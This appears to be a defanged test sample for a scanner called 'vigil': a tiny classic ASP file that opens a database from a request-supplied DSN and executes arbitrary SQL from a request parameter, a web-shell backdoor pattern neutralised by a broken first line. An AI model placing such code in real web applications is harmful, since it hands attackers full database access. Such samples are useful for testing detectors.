<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Request("dsn")
Set rs = conn.Execute(Request("sql"))
%>
